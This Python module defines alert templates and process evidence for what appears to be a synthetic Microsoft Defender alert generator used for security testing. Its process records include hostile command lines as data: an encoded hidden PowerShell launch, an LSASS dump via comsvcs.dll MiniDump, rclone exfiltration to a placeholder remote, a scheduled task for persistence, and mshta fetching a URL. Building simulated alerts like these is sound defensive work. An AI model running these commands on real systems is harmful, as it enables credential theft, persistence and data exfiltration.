"""Kinds of alerts: title, tactic, source and the evidence each carries. Stories and noise draw from the same list."""

from __future__ import annotations

from dataclasses import dataclass


@dataclass(frozen=True, slots=True)
class Service:
    """A detecting product: its names in Graph and the style of its alert ids."""

    source: str
    product: str
    prefix: str
    style: str


SERVICES = {
    "mde": Service("microsoftDefenderForEndpoint", "Microsoft Defender for Endpoint", "da", "ticks"),
    "mdo": Service("microsoftDefenderForOffice365", "Microsoft Defender for Office 365", "fa", "guid"),
    "mdi": Service("microsoftDefenderForIdentity", "Microsoft Defender for Identity", "aa", "guid"),
    "mcas": Service("microsoftDefenderForCloudApps", "Microsoft Defender for Cloud Apps", "ca", "hex24"),
    "xdr": Service("microsoft365Defender", "Microsoft Defender XDR", "ra", "ticks"),
    "idp": Service("azureAdIdentityProtection", "Microsoft Entra ID Protection", "ad", "hex64"),
    "gov": Service("microsoftAppGovernance", "Microsoft Application Governance", "ma", "guid"),
    "dlp": Service("dataLossPrevention", "Microsoft Data Loss Prevention", "dl", "guid"),
    "mdc": Service("microsoftDefenderForCloud", "Microsoft Defender for Servers", "dc", "guid"),
    "sen": Service("microsoftSentinel", "Microsoft Sentinel", "sn", "guid"),
}


@dataclass(frozen=True, slots=True)
class Process:
    """A process as evidence shows it."""

    image: str
    folder: str
    command: str
    parent: str
    publisher: str | None


_SYSTEM = "C:\\Windows\\System32"
_SHELL = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0"
PROCESSES = {
    "powershell": Process(
        "powershell.exe", _SHELL, "powershell.exe -nop -w hidden -enc {blob}", "explorer.exe", "Microsoft Corporation"
    ),
    "script": Process(
        "powershell.exe",
        _SHELL,
        "powershell.exe -File \\\\{server}\\it$\\inventory.ps1",
        "svchost.exe",
        "Microsoft Corporation",
    ),
    "mshta": Process("mshta.exe", _SYSTEM, "mshta.exe {url}", "OUTLOOK.EXE", "Microsoft Corporation"),
    "dump": Process(
        "rundll32.exe",
        _SYSTEM,
        "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 716 C:\\ProgramData\\{file} full",
        "cmd.exe",
        "Microsoft Corporation",
    ),
    "agent": Process(
        "backupagent.exe", "C:\\Program Files\\Backup Agent", '"backupagent.exe" --service', "services.exe", None
    ),
    "service": Process("PSEXESVC.exe", "C:\\Windows", "C:\\Windows\\PSEXESVC.exe", "services.exe", None),
    "task": Process(
        "schtasks.exe",
        _SYSTEM,
        'schtasks /create /sc minute /mo 15 /tn "{task}" /tr C:\\Users\\Public\\{file}',
        "cmd.exe",
        "Microsoft Corporation",
    ),
    "rclone": Process(
        "rclone.exe",
        "C:\\ProgramData",
        "rclone.exe copy C:\\ProgramData\\stage {remote}: --transfers 8",
        "cmd.exe",
        None,
    ),
    "beacon": Process("updater.exe", "C:\\Users\\Public", "C:\\Users\\Public\\updater.exe -k", "mshta.exe", None),
    "scan": Process("nmap.exe", "C:\\Tools\\nmap", "nmap.exe -sS 10.10.0.0/21", "cmd.exe", None),
    "download": Process("chrome.exe", "C:\\Program Files\\Google", '"chrome.exe"', "explorer.exe", "Google LLC"),
}


@dataclass(frozen=True, slots=True)
class Template:
    """One kind of alert; `recipe` names its evidence items in order (see `evidence.RECIPES`)."""

    title: str
    description: str
    category: str
    techniques: tuple[str, ...]
    severity: str
    service: str
    detection: str
    recipe: tuple[str, ...]
    process: str = ""


_ = Template
TEMPLATES: dict[str, Template] = {
    # mail and identity
    "phish_click": _(
        "A potentially malicious URL click was detected",
        "A user clicked a link in a message that was found to be malicious after delivery.",
        "InitialAccess", ("T1566.002",), "medium", "mdo", "microsoftDefenderForOffice365",
        ("mail", "mail_others", "user", "url", "mailbox"),
    ),
    "password_spray": _(
        "Password spray",
        "One or a few passwords were tried on many accounts; one of them was let in.",
        "CredentialAccess", ("T1110.003",), "medium", "idp", "azureAdIdentityProtection", ("user", "ip"),
    ),
    "phish_removed": _(
        "Email messages containing malicious URL removed after delivery",
        "Emails with a malicious URL that were delivered and later removed.",
        "InitialAccess", ("T1566.002",), "informational", "mdo", "microsoftDefenderForOffice365",
        ("mail", "url", "mail_cluster", "mailbox"),
    ),
    "mail_reported": _(
        "Email reported by user as malware or phish",
        "A user reported an email as phish.",
        "InitialAccess", ("T1566",), "low", "mdo", "microsoftDefenderForOffice365", ("mail", "submission", "user"),
    ),
    "anonymous_ip": _(
        "Anonymous IP address",
        "Sign-in from an anonymous IP address (a proxy or an anonymiser).",
        "InitialAccess", ("T1078.004",), "medium", "idp", "azureAdIdentityProtection",
        ("user", "ip", "logon_request", "logon_session"),
    ),
    "anomalous_token": _(
        "Anomalous Token",
        "Unusual characteristics in the token: it may have been stolen and replayed.",
        "CredentialAccess", ("T1528", "T1539"), "high", "idp", "azureAdIdentityProtection",
        ("user", "ip", "logon_request"),
    ),
    "unfamiliar": _(
        "Unfamiliar sign-in properties",
        "Sign-in with properties not seen recently for this user.",
        "InitialAccess", ("T1078.004",), "low", "idp", "azureAdIdentityProtection", ("user", "ip", "request_if_known"),
    ),
    "travel": _(
        "Impossible travel activity",
        "The user was active from {country} and from another country within a time too short to travel.",
        "InitialAccess", ("T1078",), "medium", "mcas", "cloudAppSecurity", ("user", "ip", "cloud_app"),
    ),
    "country": _(
        "Activity from infrequent country",
        "Activity from {country}, which was not recently visited by any user in the organization.",
        "DefenseEvasion", ("T1078",), "low", "mcas", "cloudAppSecurity", ("user", "ip", "cloud_app"),
    ),
    "inbox_rule": _(
        "Suspicious inbox manipulation rule",
        "A rule that moves or deletes incoming messages was set on the user's mailbox.",
        "DefenseEvasion", ("T1564.008", "T1137.005"), "medium", "mcas", "cloudAppSecurity",
        ("user", "mailbox_rule", "cloud_app", "mailbox"),
    ),
    "forwarding": _(
        "Suspicious email forwarding activity",
        "Messages of the user's mailbox are forwarded to an external address.",
        "Collection", ("T1114.003",), "medium", "mcas", "cloudAppSecurity", ("user", "mailbox_forward", "cloud_app"),
    ),
    "oauth_grant": _(
        "Misleading OAuth app name",
        "The user granted {app} access to mail and files.",
        "Persistence", ("T1098.003", "T1528"), "low", "mcas", "cloudAppSecurity", ("oauth", "user", "cloud_app"),
    ),
    "oauth_mail": _(
        "Suspicious OAuth app file download activities",
        "The app {app} downloaded many files soon after consent.",
        "Collection", ("T1530",), "medium", "gov", "appGovernanceDetection", ("oauth", "service_principal", "user"),
    ),
    "low_consent": _(
        "New app with low consent rate",
        "The app {app} was registered recently and has few consents.",
        "Persistence", (), "low", "gov", "appGovernanceDetection", ("oauth", "service_principal"),
    ),
    # hosts
    "mshta": _(
        "Suspicious process executed by a script host",
        "A script host was started by a mail client and fetched content from the internet.",
        "Execution", ("T1218.005", "T1059.001"), "medium", "mde", "microsoftDefenderForEndpoint",
        ("device", "user", "process", "file", "url"), "mshta",
    ),
    "powershell": _(
        "Suspicious PowerShell command line",
        "A suspicious PowerShell activity was observed on the machine.",
        "Execution", ("T1059.001",), "medium", "mde", "microsoftDefenderForEndpoint",
        ("device", "user", "process"), "powershell",
    ),
    "admin_script": _(
        "Suspicious PowerShell command line",
        "A suspicious PowerShell activity was observed on the machine.",
        "Execution", ("T1059.001",), "medium", "mde", "microsoftDefenderForEndpoint",
        ("device", "user", "process"), "script",
    ),
    "task": _(
        "Suspicious scheduled task",
        "A scheduled task that runs a file from a public folder was created.",
        "Persistence", ("T1053.005",), "low", "mde", "microsoftDefenderForEndpoint",
        ("device", "user", "process", "registry_value"), "task",
    ),
    "beacon": _(
        "Suspicious network connection to a newly seen address",
        "A process that was started recently contacts one address at regular intervals.",
        "CommandAndControl", ("T1071.001",), "medium", "mde", "microsoftDefenderForEndpoint",
        ("device", "process", "connection"), "beacon",
    ),
    "lateral": _(
        "Suspicious remote service creation",
        "A service was created on {peer} from {host}.",
        "LateralMovement", ("T1021.002", "T1569.002"), "medium", "mde", "microsoftDefenderForEndpoint",
        ("device", "other_device", "user", "process", "host_logon"), "service",
    ),
    "credential_dump": _(
        "Suspicious access to LSASS service",
        "A process read the memory of the Local Security Authority Subsystem Service, which holds credentials.",
        "CredentialAccess", ("T1003.001",), "high", "mde", "microsoftDefenderForEndpoint",
        ("device", "user", "process", "file"), "dump",
    ),
    "agent_lsass": _(
        "Suspicious access to LSASS service",
        "A process read the memory of the Local Security Authority Subsystem Service, which holds credentials.",
        "CredentialAccess", ("T1003.001",), "high", "mde", "microsoftDefenderForEndpoint",
        ("device", "user", "process"), "agent",
    ),
    "exfiltration": _(
        "Possible data exfiltration to cloud storage",
        "Large amounts of data were sent to an address that this organization does not use.",
        "Exfiltration", ("T1567.002",), "high", "mde", "microsoftDefenderForEndpoint",
        ("device", "user", "process", "ip", "url"), "rclone",
    ),
    "mass_download": _(
        "Mass download",
        "The user downloaded far more files than usual within an hour.",
        "Exfiltration", ("T1530", "T1567"), "medium", "mcas", "cloudAppSecurity", ("user", "ip", "url", "cloud_app"),
    ),
    "recon": _(
        "Network-mapping reconnaissance (DNS)",
        "One host asked a DNS server for many names.",
        "Discovery", ("T1046", "T1018"), "medium", "mdi", "microsoftDefenderForIdentity", ("device", "user", "dns"),
    ),
    "scan": _(
        "Port scan from one device",
        "A device connected to many ports of many devices.",
        "Discovery", ("T1046",), "medium", "mde", "customDetection", ("device", "user", "process"), "scan",
    ),
    "brute_force": _(
        "Multiple failed user logon attempts",
        "Many failed logons for one account.",
        "CredentialAccess", ("T1110",), "low", "mdi", "microsoftDefenderForIdentity", ("user", "device", "group"),
    ),
    "malware": _(
        "'{threat}' malware was prevented",
        "Malware was found on the device and was prevented from running.",
        "Malware", ("T1204.002",), "low", "mde", "antivirus", ("device", "user", "file", "malware"), "download",
    ),
    "malware_high": _(
        "'{threat}' credential theft malware was prevented",
        "Malware of a family that steals credentials was found on the device and was prevented from running.",
        "Malware", ("T1204.002",), "high", "mde", "antivirus", ("device", "user", "file", "malware"), "download",
    ),
    "pua": _(
        "'{unwanted}' unwanted software was detected",
        "Potentially unwanted software was found on the device.",
        "UnwantedSoftware", (), "medium", "mde", "antivirus", ("device", "user", "file", "hash"), "download",
    ),
    "smartscreen": _(
        "Connection to a blocked site",
        "The browser was kept from opening a site of bad reputation.",
        "SuspiciousActivity", (), "informational", "mde", "smartScreen", ("device", "user", "url"), "download",
    ),
    # other sources
    "dlp": _(
        "DLP policy (Personal data) matched for email with subject ({subject})",
        "A message with personal data was sent to someone outside.",
        "Exfiltration", (), "low", "dlp", "microsoftDataLossPrevention", ("user", "mailbox"),
    ),
    "dlp_files": _(
        "DLP policy (Personal data) matched for files: {subject}",
        "Files with personal data were shared with someone outside.",
        "Exfiltration", (), "low", "dlp", "microsoftDataLossPrevention",
        ("user", "device", "hostile_files", "cloud_app"),
    ),
    "cloud_vm": _(
        "Suspicious authentication activity",
        "Several logons to a virtual machine failed before one succeeded.",
        "PreAttack", ("T1110",), "medium", "mdc", "microsoftDefenderForServers", ("azure", "ip", "other_server"),
    ),
    "rare_agent": _(
        "Rare user agent in sign-in logs",
        "A user agent that was not seen in the last 14 days.",
        "InitialAccess", ("T1078",), "low", "sen", "scheduledAlerts", ("user", "ip"),
    ),
    "two_tenants": _(
        "File shared with a person of another organization",
        "Two accounts of the same display name worked on one file.",
        "Collection", ("T1213",), "informational", "mcas", "cloudAppSecurity",
        ("user", "foreign_user", "cloud_app", "url"),
    ),
    "unknown_type": _(
        "Unusual use of a preview feature",
        "A product in preview reported an item of a new kind.",
        "SuspiciousActivity", (), "low", "xdr", "microsoft365Defender", ("user", "unknown", "untyped", "device"),
    ),
}  # fmt: skip
